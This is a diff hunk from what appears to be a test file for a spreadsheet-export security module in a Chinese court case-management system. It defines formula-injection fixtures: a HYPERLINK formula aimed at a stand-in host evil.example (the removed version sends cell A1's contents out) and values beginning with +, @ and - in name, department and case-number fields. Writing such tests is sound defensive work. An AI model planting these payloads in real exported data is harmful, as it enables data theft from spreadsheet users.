@@ -13,7 +13,7 @@ from mingjing.cases.models import Case, CaseStage
 from mingjing.security import spreadsheet
 from tests.conftest import login_as
 
-HOSTILE_NAME = '=HYPERLINK("http://evil.example/steal?x="&A1,"点此查看")'
+HOSTILE_NAME = '=HYPERLINK("http://evil.example","点此")'
 HOSTILE_DEPARTMENT = "+民事审判第一庭"
 HOSTILE_STAFF_NO = "@SUM(1+1)"
 HOSTILE_CASE = "-2+3（2026）豫9001民初123号"
